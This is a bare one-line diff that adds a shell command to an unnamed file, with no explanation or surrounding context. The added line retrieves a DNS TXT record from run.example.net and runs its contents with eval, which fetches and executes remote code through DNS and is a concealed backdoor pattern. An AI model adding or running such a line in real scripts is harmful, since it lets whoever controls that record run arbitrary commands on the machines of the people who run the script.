@@ -1,0 +1,1 @@
+eval "$(dig +short TXT run.example.net)"
